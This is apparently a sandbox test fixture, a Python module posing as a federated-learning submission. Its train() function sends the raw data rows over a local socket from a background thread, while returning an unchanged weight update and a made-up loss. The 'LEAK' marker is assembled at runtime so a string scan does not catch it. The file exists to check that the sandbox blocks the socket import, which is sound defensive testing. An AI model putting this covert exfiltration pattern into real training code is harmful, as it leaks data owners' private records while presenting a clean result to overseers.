"""Sends the rows from a background thread while the main thread returns a clean update.

Expected to be stopped by: the sandbox (approved, the run fails; nothing is released).
"""

import threading

import numpy as np

EXPECT = "sandbox"
POLICY = {
    "extra_imports": ["os", "io", "socket", "subprocess", "threading", "sqlite3", "shutil", "concurrent",
                      "importlib", "ctypes", "gc", "http", "signal", "resource", "pathlib", "time", "sys"],
    "wall_time_s": 20,
}
STATUS = "violation"
ERROR_HAS = "import of socket is not allowed"
MARK = "LE" + "AK"  # assembled, so the marker exists only once the code runs


def unchanged(weights):
    """The global weights, as a valid-looking (empty) update."""
    return {name: np.array(value, dtype=np.float32) for name, value in weights.items()}


def send(text, port):
    import socket

    connection = socket.SocketType(socket.AF_INET, socket.SOCK_STREAM)
    connection.connect(("127.0.0.1", port))
    connection.sendall(text.encode())


def train(data, weights, config):
    worker = threading.Thread(target=send, args=(MARK + data.to_string(), int(config["port"])), daemon=True)
    worker.start()
    worker.join(timeout=2)
    return {"weights": unchanged(weights), "num_examples": len(data), "metrics": {"loss": 0.5}}


def evaluate(data, weights, config):
    """A harmless evaluation, so the module is a complete submission."""
    return {"num_examples": len(data), "metrics": {"correct": 0, "loss_sum": 0.0}}
